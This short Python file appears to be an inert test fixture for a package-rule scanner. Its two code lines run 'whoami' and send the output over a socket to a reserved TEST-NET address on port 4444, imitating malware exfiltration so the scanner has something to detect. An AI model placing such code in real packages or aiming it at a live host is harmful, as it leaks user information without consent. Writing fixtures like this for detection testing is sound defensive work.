# Inert test fixture for assay's package rules: it imitates a malware technique
# with reserved example hosts and TEST-NET addresses and does nothing useful when run.
import os
import socket

user = os.popen("whoami").read()
socket.create_connection(("192.0.2.40", 4444)).send(user.encode())
